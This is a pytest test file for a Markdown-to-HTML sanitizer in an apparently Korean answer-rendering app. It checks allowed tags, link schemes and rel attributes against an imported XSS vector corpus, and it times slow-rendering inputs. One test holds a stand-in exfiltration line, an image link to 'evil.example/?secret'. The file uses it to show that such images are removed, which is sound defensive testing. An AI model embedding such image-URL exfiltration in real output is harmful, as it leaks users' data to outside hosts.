"""Markdown to HTML: what must not survive, however it is written, and what must."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from endy.ask.render import to_html
from tests.ask.xss import VECTORS

ALLOWED = {
    "a", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre", "s", "strong", "sup",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
SCHEMES = {"http", "https", "mailto", ""}
REL = "noopener noreferrer nofollow"


class Survivors(HTMLParser):
    """Collects everything in HTML that is more than allowed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        self.found += [f"<{tag} {name}>" for name, _ in attrs if name not in ATTRIBUTES.get(tag, set())]
        given = {name: value or "" for name, value in attrs}
        if scheme_of(given.get("href", "")) not in SCHEMES:
            self.found.append(given["href"])
        if "href" in given and given.get("rel") != REL:
            self.found.append("a link that tells where it comes from")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def scheme_of(address: str) -> str:
    """As browsers read it: spaces and control characters around it and line ends within it do not count."""
    trimmed = address.strip("".join(map(chr, range(33))))
    return urlsplit("".join(char for char in trimmed if char not in "\t\r\n")).scheme


def survivors(html: str) -> list[str]:
    parser = Survivors()
    parser.feed(html)
    parser.close()
    return parser.found


def test_the_corpus_is_large_and_dangerous() -> None:
    """Hundreds of different vectors, most of which the check would find if nothing were done."""
    assert len(set(VECTORS)) == len(VECTORS) >= 500
    assert sum(bool(survivors(vector)) for vector in VECTORS) > 300


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_nothing_that_runs_or_loads_survives(vector: str) -> None:
    """Only plain elements, links to the web or to mail, and their fixed `rel`."""
    assert survivors(to_html(vector)) == []


def test_nothing_survives_of_all_at_once() -> None:
    """One vector does not open the door for the next one."""
    assert survivors(to_html("\n\n".join(VECTORS))) == []
    assert survivors(to_html(" ".join(VECTORS))) == []


def test_raw_html_is_shown_as_text() -> None:
    """Somebody who asks about HTML gets to read it."""
    assert to_html("<b>굵게</b>") == "<p>&lt;b&gt;굵게&lt;/b&gt;</p>\n"


def test_images_are_not_loaded() -> None:
    """Neither from elsewhere nor from here: an address in an answer could carry away what it says."""
    html = to_html("앞 ![그림](https://evil.example/?secret) 뒤 ![둘](/static/mark.svg)")
    assert "evil" not in html
    assert "<img" not in html
    assert "앞" in html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**굵게** *기울여*", "<p><strong>굵게</strong> <em>기울여</em></p>"),
        ("~~지워~~ `코드`", "<p><s>지워</s> <code>코드</code></p>"),
        ("- 하나\n- 둘", "<ul>\n<li>하나</li>\n<li>둘</li>\n</ul>"),
        ("3. 셋\n4. 넷", '<ol start="3">\n<li>셋</li>\n<li>넷</li>\n</ol>'),
        ("## 제목\n### 소제목", "<h2>제목</h2>\n<h3>소제목</h3>"),
        ("> 인용", "<blockquote>\n<p>인용</p>\n</blockquote>"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>"),
        ("[포털](https://on.encar.example/a?b=1&c=2)",
         f'<p><a href="https://on.encar.example/a?b=1&amp;c=2" rel="{REL}">포털</a></p>'),
        ("<hr@encar.example>", f'<p><a href="mailto:hr@encar.example" rel="{REL}">hr@encar.example</a></p>'),
    ],
)  # fmt: skip
def test_what_answers_are_made_of_survives(markdown: str, html: str) -> None:
    """Emphasis, lists with their first number, headings, quotations, links and mail."""
    assert to_html(markdown).strip() == html


def test_tables_survive() -> None:
    """With their head, without alignment styles, which the page's policy would refuse."""
    html = to_html("| 이름 | 수 |\n|:--|--:|\n| 가 | 1 |")
    assert all(f"<{tag}>" in html for tag in ("table", "thead", "tbody", "tr", "th", "td"))
    assert "style" not in html


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "*a_ ",
        "`" + "a`" * 3,
        "> ",
        "- ",
        "<",
        "&#",
        "[a](",
        "**a",
        "|a",
        "\\",
        "~~a",
        "[a]: b\n",
        "(",
        "<a@",
    ],
)
def test_no_text_keeps_the_server_busy(piece: str) -> None:
    """20,000 characters of the worst kinds are rendered in time that nobody notices."""
    started = time.perf_counter()
    assert survivors(to_html(piece * (20_000 // len(piece)))) == []
    assert time.perf_counter() - started < 2
